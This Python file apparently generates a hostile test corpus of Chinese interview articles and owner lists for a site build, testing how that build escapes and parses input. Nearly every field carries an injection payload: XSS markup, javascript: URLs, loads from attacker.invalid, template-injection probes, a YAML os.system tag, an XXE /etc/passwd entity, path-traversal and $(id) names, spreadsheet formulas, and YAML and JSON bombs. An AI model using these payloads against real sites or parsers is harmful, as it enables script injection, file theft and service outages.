"""A corpus that means harm: articles in every format whose every field carries an attack, and an owner's lists that do.

What runs sets `window.pwned` to the name of the attack and its place, or asks `attacker.invalid` for something.  Nothing
here runs by itself: `write_articles` and `write_lists` lay out folders for a build.
"""

from __future__ import annotations

import html
import io
import json
import re
import zipfile
from base64 import b64encode
from collections.abc import Mapping
from dataclasses import dataclass
from itertools import cycle
from pathlib import Path
from types import MappingProxyType
from urllib.parse import quote

import yaml

RUN = "window.pwned=/§/.source"  # no quotation mark, so that it fits everywhere; § becomes attack and place
OUT = "//attacker.invalid/§"

# One attack each on whatever reads the text later: HTML in all its states, Markdown, YAML, templates, terminals, scripts.
ATTACKS: Mapping[str, str] = MappingProxyType(
    {
        "script": f"<script>{RUN}</script><SCRIPT SRC={OUT}></SCRIPT><x-pwned>",
        "handler": f"<img src=x onerror={RUN}><details open ontoggle={RUN}><input autofocus onfocus={RUN}>",
        "attribute": f"\"><img src=x onerror={RUN}><i title=\"' onmouseover='{RUN}' style='position:fixed;inset:0' x=\"",
        "quoted": f'" onpointerenter="{RUN}" autofocus tabindex="0" onfocus="{RUN}" x="',
        "closing": "</title></textarea></script></style></noscript></template></p></q></section></article></main></body>"
        f"</html><script>{RUN}</script>",
        "json": f'"}}]}}</script><script>{RUN}</script><!--<script>\\u003c/script>\\',
        "svg": f"<svg onload={RUN}><script href=data:text/javascript,{RUN}></script><foreignObject><iframe srcdoc="
        f'"&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe></foreignObject><set attributeName=href to=javascript:{RUN}></svg>',
        "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
        "style": f"<style>@import url({OUT});*{{background:url({OUT})}}</style><link rel=stylesheet href={OUT}>",
        "head": f'<base href={OUT}/><meta http-equiv=refresh content="0;url=javascript:{RUN}"><title>§</title>',
        "frame": f"<iframe src=javascript:parent.{RUN}></iframe><object data={OUT}></object><embed src={OUT}>"
        f"<form action=javascript:{RUN}><button formaction=javascript:{RUN}>",
        "markdown": f'[点我](javascript:{RUN}) ![图](x "t"onerror={RUN}) <javascript:{RUN}> [^1] [a][b] ![c][b] `{RUN}`'
        f" **<b onclick={RUN}>** | a | b |",
        "blocks": f"甲\n\n# 假的标题 {{#__drawer}}\n\n```js\n{RUN}\n```\n\n~~~\n\n<!-- 注\n\n[b]: javascript:{RUN}\n[^1]: 注\n\n"
        "=====\n\n-->\n\n* * *\n\n1) 一\n    1) 二\n\n乙",
        "lists": f"{{: onclick={RUN} #__search .md-overlay style=position:fixed }}{{#__config}}{{ .x onerror={RUN} }}",
        "front": "---\ntemplate: ../../x.html\nhide: [toc]\ntitle: !!python/object/apply:os.system [x]\n---\n%YAML 1.2\n&a *a",
        "jinja": "{{ 7*7 }}{% raise %}{% include 'x' %}{# 注 #}{{ config.__class__.__mro__ }}{%- endraw -%}{{{{",
        "templates": f"${{{RUN}}} `${{{RUN}}}` #{{7*7}} <%= 7*7 %> {{0.__class__}} %(x)s %s %n [[ 7*7 ]]"
        f" {{{{constructor.constructor('{RUN}')()}}}} <?php {RUN} ?>",
        "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;b&amp;gt; &#60b &#x3cb &#0;"
        " &#xD800; &#x110000; &lt &copy &notin; &NotEqualTilde; &\t; &#; &#x; &nosuch;",
        "cdata": f"<![CDATA[<script>{RUN}</script>]]> ]]> --> --!> <!-- <!--> <!---> <!DOCTYPE x [<!ENTITY e SYSTEM"
        ' "file:///etc/passwd">]> &e; <!-->',
        "direction": "\u202egnp.exe\u202c\u2066\u2067\u2069\u200f\u200e\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\U000e0041",
        "controls": "\x01\x02klzzwxh:0000\x03\x02wzxhzdk:0\x03\x08\x0b\x0c\x0e\x1b]0;题\x07\x1b[31m\x7f\x85\x9b\u2028\u2029\x1c",
        "private": "\ue000\uf8ff\U000f0000\U0010fffd\ufdd0\ufffe\uffff\U0001fffe\ufffd\ufffc",
        "flood": "智\u0335" + "\u0310\u0489\u20dd\u0e49" * 150 + "\ufdfd" * 30,
        "ids": f"<a id=__drawer name=__search href=javascript:{RUN}><form id=__config name=body><input name=attributes>"
        "<a id=q00000000aa><img name=getElementById><a id=s1>",
        "inherited": "__proto__ constructor toString hasOwnProperty __defineGetter__ valueOf [object Object] undefined NaN",
        "paths": "../../../etc/passwd ..\\..\\x C:\\CON /dev/null .git/config index.html %2e%2e%2f %00 ~root $(id) `id` ;id|id&",
        "marks": "'\"`“”‘’「」『』\\ %s%n%00 🧨👨\u200d👩\u200d👧🏴\U000e0067\U000e0062\U000e007f ?#&;=+:/@ ...",
        "cells": f'=HYPERLINK("{OUT}") @SUM(1) +1 -1\t|cmd \'=1',
    }
)

# Addresses of which no page may make a link, or only one that stays a plain address.
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"javascript&colon;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{b64encode(b'<script>window.pwned=1</script>').decode()}",
    OUT,
    "\\\\attacker.invalid\\§",
    "/\\attacker.invalid/§",
    f"view-source:javascript:{RUN}",
    "blob:https://attacker.invalid/§",
    f"https:{RUN}",
    f'https://attacker.invalid/§" onmouseover="{RUN}',
    f"https://attacker.invalid/§'><script>{RUN}</script>",
    "https://attacker.invalid/§?a={{7*7}}&lt;b&amp;c=%22%3E#:~:text=x",
    "http://[::1",
    "http://user:pass@attacker.invalid:99999/§",
    f"mailto:a@b.invalid?body=<script>{RUN}</script>",
    f"?§#<img src=x onerror={RUN}>",
    "../../../../etc/passwd",
)

# Names that file systems allow and that shells, addresses, reports and scripts stumble over; a number and a suffix follow.
NAMES = (
    "<img src=x onerror=window.pwned=1>", '" onmouseover="window.pwned=1" x="', "{{ 7*7 }}{% raise %}{#x}", "两行\n名字",
    "%00%2e%2e%2f", "CON", "index", "__proto__", "constructor", "-rf", "--output=x", "~root", "`id`$(id);id", "🧨",
    "x#frag?q=1&a=b", "尾点..", " 空 格 ", "\u202etxt.exe", "a\\b", "toString", "a'b", "[x](javascript:window.pwned=1)",
    "\x1b[31m红", "&lt;b&gt;", "*", "aux.", "q00000000aa",
)  # fmt: skip
FOLDERS = ("", "<b>夹", "__proto__", "%2e%2e%2f..", "{{ 7*7 }}", "a'\"b", "assets", "javascripts", "夹.txt.d")
FOLDER, HIDDEN = "文件夹.md", "不可见人的话。"
LONGEST = 90  # characters of a name that are used
THEMED = "规模法则说规模越大越好，算力和芯片是瓶颈，通用人工智能会到来"


@dataclass(frozen=True)
class Draft:
    """One attack on its way into an article: `at` gives it for a place, `url` an address that goes with it."""

    number: int
    name: str
    text: str
    address: str

    def at(self, place: str) -> str:
        return self.text.replace("§", f"{self.name}-{place}")

    def url(self, place: str) -> str:
        return self.address.replace("§", f"{self.name}-{place}")

    @property
    def day(self) -> int:
        return 1 + self.number % 28

    @property
    def title(self) -> str:
        return f"对话李明：大模型的未来之{self.number}{self.at('title')}"

    @property
    def turns(self) -> list[tuple[str, str]]:
        """Give speakers and words, with the attack inside, alone, and behind a name."""
        return [
            ("主持人", f"您怎么看规模法则？第{self.number}问。{self.at('asked')}"),
            ("Sam Altman", f"{THEMED}，这是第{self.number}次说。{self.at('answer')}对齐也一样。"),
            (f"李明{self.at('label')}", f"我觉得对齐比算力更难，这一条是第{self.number}条。{self.at('words')}"),
            ("主持人", f"第{self.number}次追问，为什么？"),
            ("Sam Altman", self.at("only")),
            (f"李明{self.at('label')}", f"开源会赢，第{self.number}回。"),
        ]

    @property
    def news(self) -> str:
        return (
            f"5月18日，星河智能首席科学家李明{self.at('role')}在{self.at('event')}大会上说：“第{self.number}条，芯片和能源是瓶颈。"
            f"{self.at('quote')}”"
        )


def as_text(d: Draft) -> str:
    turns = "\n\n".join(f"{speaker}：{words}" for speaker, words in d.turns)
    return f"""# {d.title}

来源：{d.at("publisher")}
作者：{d.at("author")}
发布时间：2024年5月{d.day}日{d.at("date")}
原文链接：{d.url("source")}

![{d.at("caption")}]({d.url("image")})

## 一、{d.at("heading")}

{turns}

## 二、会上

{d.news}

[{d.at("link")}]({d.url("link")})

> {d.at("set-apart")}
>
> ——李明《{d.at("work")}》

## 参考资料

1. {d.at("reference")} {d.url("reference")}
[{d.at("definition")}]: {d.url("definition")} "{d.at("definition")}"
"""


def as_front(d: Draft) -> str:
    fields = {"title": d.title, "author": d.at("author"), "date": f"2024-05-{d.day:02}", "source": d.url("front")}
    return f"---\n{yaml.safe_dump(fields, allow_unicode=True)}---\n{as_text(d)}"


def as_html(d: Draft) -> str:
    """Write a page: what stands in the head escaped, the words by turns as markup and as text."""
    e = html.escape
    data = {"@type": "NewsArticle", "headline": d.title, "author": {"name": d.at("author")}, "publisher": d.at("house")}
    turns = (f"<p><strong>{e(who)}：</strong>{said if n % 2 else e(said)}</p>" for n, (who, said) in enumerate(d.turns))
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{e(d.title)}</title>
<meta name="author" content="{e(d.at("author"))}"><meta property="og:site_name" content="{e(d.at("publisher"))}">
<link rel="canonical" href="{e(d.url("canonical"))}">
<script type="application/ld+json">{json.dumps(data).replace("</", "<" + chr(92) + "/")}</script></head><body><article>
<h1>{e(d.title)}</h1><p>2024-05-{d.day:02} 来源：{e(d.at("publisher"))}</p>
<h2>{e(d.at("heading"))}</h2>
{"".join(turns)}<p>{e(d.news)}</p>
<figure><img src="{e(d.url("image"))}" alt="{e(d.at("caption"))}"><figcaption>{e(d.at("caption"))}</figcaption></figure>
<p>参见<a href="{e(d.url("link"))}">{e(d.at("link"))}</a>，还有<a href={d.url("bare")}>这里</a>。</p>
<blockquote>{e(d.at("set-apart"))}</blockquote><p>{d.at("raw")}</p></article></body></html>"""


def as_mhtml(d: Draft) -> str:
    subject, page = (b64encode(text.encode("utf-8", "replace")).decode() for text in (d.title, as_html(d)))
    place = quote(d.url("location"), safe=":/")
    return (
        f"Subject: =?utf-8?B?{subject}?=\nSnapshot-Content-Location: {place}\nMIME-Version: 1.0\n"
        'Content-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html; charset=utf-8\n'
        f"Content-Transfer-Encoding: base64\nContent-Location: {place}\n\n{page}\n--b--\n"
    )


def as_srt(d: Draft, mark: str = ",") -> str:
    cues = [*(f"{speaker}：{words}" for speaker, words in d.turns), d.news]
    if mark == ".":
        cues += [f"<v {speaker}><c.x>{words}</c></v>" for speaker, words in d.turns]
    return "\n".join(
        f"{n}\n00:00:{2 * n:02}{mark}000 --> 00:00:{2 * n + 1:02}{mark}900\n{said}\n" for n, said in enumerate(cues)
    )


def as_vtt(d: Draft) -> str:
    return f"WEBVTT - {d.at('header')}\n\nNOTE {d.at('note')}\n\nSTYLE\n::cue {{ color: red }}\n\n{as_srt(d, '.')}"


OFFICE = "http://schemas.openxmlformats.org"
RELATIONS = f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{{}}</Relationships>'
RELATION = f'<Relationship Id="r1" Type="{OFFICE}/officeDocument/2006/relationships/{{}}" Target="{{}}"{{}}/>'


def _legal(text: str) -> str:
    """Leave out what XML cannot hold."""
    return re.sub(r"[^\t\n\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "", text)


def _xml(text: str) -> str:
    return html.escape(_legal(text))


def _paragraph(text: str, label: str = "", style: str = "") -> str:
    bold = f'<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">{_xml(label)}</w:t></w:r>' if label else ""
    styled = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f'<w:p>{styled}{bold}<w:r><w:t xml:space="preserve">{_xml(text)}</w:t></w:r></w:p>'


def as_docx(d: Draft) -> bytes:
    turns = "".join(_paragraph(words, f"{speaker}：") for speaker, words in d.turns)
    link = f'<w:p><w:hyperlink r:id="r1"><w:r><w:t>{_xml(d.at("link"))}</w:t></w:r></w:hyperlink></w:p>'
    body = (
        f"{_paragraph(d.title, style='h1')}{_paragraph('作者：' + d.at('author'))}{_paragraph(d.at('heading'), style='h2')}"
        f"{turns}{_paragraph(d.news)}{link}{_paragraph(d.at('set-apart'), style='Quote')}"
    )
    main = f"{OFFICE}/wordprocessingml/2006/main"
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{key}"><w:name w:val="{name}"/></w:style>'
        for key, name in (("h1", "Title"), ("h2", "heading 1"), ("Quote", "Quote"))
    )
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{OFFICE}/package/2006/content-types"><Default Extension="xml"'
        ' ContentType="application/xml"/><Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
        "_rels/.rels": RELATIONS.format(RELATION.format("officeDocument", "word/document.xml", "")),
        "word/_rels/document.xml.rels": RELATIONS.format(
            RELATION.format("hyperlink", _xml(d.url("link")), ' TargetMode="External"')
            + RELATION.format("styles", "styles.xml", "").replace("r1", "r2")
        ),
        "word/styles.xml": f'<w:styles xmlns:w="{main}">{styles}</w:styles>',
        "word/document.xml": f'<w:document xmlns:w="{main}" xmlns:r="{OFFICE}/officeDocument/2006/relationships"><w:body>'
        f"{body}</w:body></w:document>",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return out.getvalue()


def record(d: Draft, **more: object) -> dict[str, object]:
    """Give a record of the export whose every field carries the attack as it is: what no other format lets through."""
    said = [(speaker, words.strip()) for speaker, words in d.turns if words.strip()]
    heading = " ".join(d.at("heading").split())
    body = "\n\n".join([heading, *(words for _, words in said), d.at("link")])
    day = {"edtf": "2024-05", "basis": "inferred", "evidence": d.at("evidence"), "line": 1}
    quotes = [
        {
            "id": f"q{d.number:05}{n:05}", "kind": "turn" if n % 2 else "direct", "text": words, "prefix": "", "exact": words,
            "suffix": "", "speaker": {"type": "person", "name": d.at("name")[:LONGEST], "names": [d.at("other")[:LONGEST]],
            "label": d.at("label"), "role": d.at("role"), "id": None, "evidence": [d.at("evidence")]},
            "work": {"title": d.at("work"), "url": "java\tscript:1"}, "url": "//attacker.invalid/q", "cue": d.at("cue"),
            "rule": d.at("rule"), "confidence": ("high", "medium", "low")[n % 3], "status": "disputed", "said": day,
            "highlights": [[0, 1]],
        }
        for n, (speaker, words) in enumerate(said)
    ]  # fmt: skip
    return {
        "schema": "1", "id": f"a{d.number:08}", "title": d.title, "body": body, "quotes": quotes, "published": day,
        "events": [{**day, "name": d.at("event")}], "authors": [d.at("author")], "translators": [d.at("translator")],
        "compilers": [d.at("compiler")], "editors": [d.at("editor")], "publisher": d.at("publisher"), "place": d.at("place"),
        "url": d.url("url"), "language": _legal(d.at("language")), "script": d.at("script"), "translated": True,
        "sections": [{"title": heading}], "references": [{"text": d.at("reference"), "url": "\\\\attacker.invalid"}],
        "repairs": [{"rule": d.at("rule"), "was": d.at("was"), "now": d.at("now"), "sure": False}],
        "problems": [{"level": "warning", "rule": d.at("rule"), "message": d.at("message"), "hint": d.at("hint")}], **more,
    }  # fmt: skip


def as_record(d: Draft) -> str:
    """Write a record; before an address that the reader refuses stands a character that browsers pass over."""
    plain = re.match(r"[a-z][a-z.+-]*:", d.address, re.IGNORECASE)
    return json.dumps(record(d, url="\t" * bool(plain) + d.url("url"))) + "\n"


WRITERS = {
    ".txt": as_text, ".html": as_html, ".md": as_front, ".docx": as_docx, ".vtt": as_vtt, ".mhtml": as_mhtml,
    ".srt": as_srt, ".htm": as_html, ".TXT": as_text, ".markdown": as_text,
}  # fmt: skip


def drafts() -> list[Draft]:
    addresses = cycle(ADDRESSES)
    return [Draft(number, name, text, next(addresses)) for number, (name, text) in enumerate(ATTACKS.items(), 1)]


def encoded(text: str | bytes) -> bytes:
    return text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text


def articles() -> dict[str, bytes]:
    """Give the attacks as files by path: each as a record of the export, and two at a time in every other format."""
    alone = drafts()
    half = len(alone) // 2
    pairs = [
        Draft(100 + one.number, f"{one.name}-{two.name}", f"{one.text}，{two.text}", two.address)
        for one, two in zip(alone[:half], alone[half:], strict=True)
    ]
    written = [(".jsonl", as_record(d)) for d in alone]
    written += [(suffix, WRITERS[suffix](d)) for suffix, d in zip(cycle(WRITERS), pairs, strict=False)]
    names, folders = cycle(NAMES), cycle(FOLDERS)
    files: dict[str, bytes] = {}
    for suffix, text in written:
        folder, name = next(folders), next(names)
        path = next(p for n in ("", len(files)) if (p := f"{folder}/{name}{n}{suffix}".lstrip("/")) not in files)
        files[path] = encoded(text)
    return files


def extremes() -> dict[str, bytes]:
    """Give the files that are too long, too deep, of bytes that are no text, or that claim what is another's."""
    opening = "# 极端的一篇之{}\n\n2024年6月1日\n\n主持人：请讲。\n\nSam Altman：{}\n\n主持人：谢谢您接受采访。\n"
    page = "<!DOCTYPE html><title>极端的一篇之{}</title><article><h1>极端的一篇之{}</h1><p>李明说：“{}”</p>{}</article>"
    long = f"{THEMED}<b>“说" * (100_000 // len(THEMED))
    unbroken = "智" * 5_000
    deep = "".join(f"<{tag}>" for _ in range(400) for tag in ("div", "b", "blockquote", "ul", "li"))
    date = {"basis": "inferred", "evidence": "<b>", "line": 1}
    days = ("0000", "9999-12-31", "[2023,0000]", "XXXX-06-03", "../0001", "000X/9999")
    dated = [
        {"schema": "1", "id": f"a70000{n:03}", "title": f"日期{n}", "body": f"第{n}篇只有日期。", "quotes": [],
         "published": {**date, "edtf": day}, "events": [{**date, "edtf": day, "name": "<x-pwned>"}]}
        for n, day in enumerate(days)
    ]  # fmt: skip
    bomb = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}' if n else 'x'] * 9)}]\n" for n in range(9))
    nested = '{"schema": "1", "title": ' + "[" * 50_000 + "]" * 50_000 + "}"
    proto = '{"schema": "1", "id": "a60000000", "title": "原型", "body": "一。", "quotes": [], "__proto__": {"x": 1}}'
    return {
        "长.txt": opening.format(1, long).encode(),
        "长无标点.md": opening.format(2, unbroken).encode(),
        "长.html": page.format(3, 3, long[:30_000], "").encode(),
        "长题.txt": f"# {unbroken + long[:10_000]}\n\n{THEMED}。\n".encode(),
        "深.html": page.format(4, 4, THEMED, deep + "底").encode(),
        "深.md": opening.format(5, "[" * 2_000 + "底" + "![" * 1_000).encode() + b">" * 2_000 + "底。\n".encode(),
        "单.md": opening.format(6, "底").encode() + b"".join(b"  " * n + b"- x\n" for n in range(300)),
        "弹.md": f"---\n{bomb}title: *a8\n---\n".encode() + opening.format(7, THEMED).encode(),
        "零.txt": opening.format(8, "零\0零").encode(),
        "零16.txt": opening.format(9, "零\0零\ud800<b>\udc00").encode("utf-16", "surrogatepass"),
        "半.md": opening.format(10, "半个\ud83e字<b>\udfff。").encode("utf-8", "surrogatepass"),
        "半.html": page.format(11, "&#xD800;&#xDFFF;&#0;&#x80;", "半个&#xD83E;字", "\ud83e").encode(
            "utf-8", "surrogatepass"
        ),
        "半.jsonl": b'{"schema": "1", "id": "a50000000", "title": "\\ud800\\u0000<b>", "body": "\\udfff", "quotes": []}\n',
        "日期.jsonl": "".join(json.dumps(row) + "\n" for row in dated).encode(),
        "原型.jsonl": f"{proto}\n{nested}\n".encode(),
        "空.txt": b"\xef\xbb\xbf \n",
        "断.docx": b"PK\x03\x04" + b"\0" * 100,
    }


def stolen(article: str, quotes: list[str]) -> bytes:
    """Give records that claim the ids of an article and of its quotes, with other words."""
    rows = [
        {
            "schema": "1", "id": article if n else "a40000000", "title": f"冒名顶替{n}", "body": f"冒名顶替的话{n}。", "quotes": [
                {"id": one, "kind": "turn", "text": f"冒名顶替的话{n}。", "prefix": "", "exact": f"冒名顶替的话{n}。",
                 "suffix": "", "speaker": {"type": "person", "name": "Sam Altman", "names": [], "label": None, "role": None},
                 "rule": "colon_label", "confidence": "high"}],
        }
        for n, one in enumerate(quotes[:2])
    ]  # fmt: skip
    return "".join(json.dumps(row) + "\n" for row in rows).encode()


def hostile_files(article: str, quotes: list[str]) -> dict[str, bytes]:
    """Give all hostile files by path, some of which claim the ids of an article and its quotes."""
    return {**articles(), **extremes(), "0冒名.jsonl": stolen(article, quotes)}


def write_articles(folder: Path, files: Mapping[str, bytes]) -> None:
    """Write files below a corpus folder, beside what is there, with a folder named like a file and one that is hidden."""
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (folder / FOLDER).mkdir()
    hidden = folder / ".git" / "config.md"
    hidden.parent.mkdir()
    hidden.write_text(f"# 隐藏的一篇\n\n李明说：“{HIDDEN}”\n", encoding="utf-8")


def write_lists(folder: Path) -> None:
    """Write a small corpus whose owner's lists mean harm, with an article that gives every entry a page."""
    folder.mkdir(parents=True)
    found = drafts()
    people, themes, sources, talk = [], [], [], ["# 名录里的人都来了", "", "2024年5月6日", ""]
    for d in found:  # people and sources of one half, themes of the other
        name = " ".join(_legal(re.sub(r"[\x7f-\x9f]", "", d.at("name"))).split())
        person, term = f"王第{chr(0x4E00 + 37 * d.number)}", f"题{chr(0x5200 + 41 * d.number)}"
        talk += [f"{person}：{term}是关键，第{d.number}条。", ""]
        if d.number % 2:
            links = {d.at("link"): d.url("link"), "wikipedia": f"https://example.org/{d.url('wikipedia')}"}
            people.append({"id": f"p-{d.number}" if d.number % 3 else d.at("id"), "name": f"{name}甲", "names": [person, name],
                           "roles": [{"title": d.at("role"), "since": "2019", "until": d.at("until")}],
                           "description": d.at("description"), "links": links})  # fmt: skip
            sources.append({"id": f"s-{d.number}", "name": name, "names": [d.at("alias")], "description": d.at("about"),
                            "url": d.url("url") if d.number % 3 else f"https://example.org/{d.url('site')}"})  # fmt: skip
        else:
            themes.append({"id": f"t-{d.number}", "name": name, "definition": d.at("definition"), "near": [d.at("near")],
                           "terms": {"3": [term, d.at("term")]},
                           "parent": f"t-{d.number - 2}" if d.number % 3 else d.at("parent")})  # fmt: skip
    settings = {
        "site_name": f"站{found[0].at('site')}{found[3].at('site')}{found[15].at('site')}", "owner": found[1].at("owner"),
        "description": found[4].at("description") + found[5].at("description"), "contact": ADDRESSES[0].replace("§", "contact"),
        "copyright": found[2].at("copyright") + found[9].at("copyright"), "site_url": "https://example.org/{{7*7}}/",
    }  # fmt: skip
    lists = {"people.yaml": people, "themes.yaml": themes, "sources.yaml": sources, "corpus.yaml": settings}
    for file, value in lists.items():
        (folder / file).write_bytes(encoded(yaml.safe_dump(value, allow_unicode=True)))
    (folder / "talk.md").write_text("\n".join(talk), encoding="utf-8")
    for d in found[::5]:
        (folder / f"{d.number}.md").write_bytes(encoded(as_text(d)))
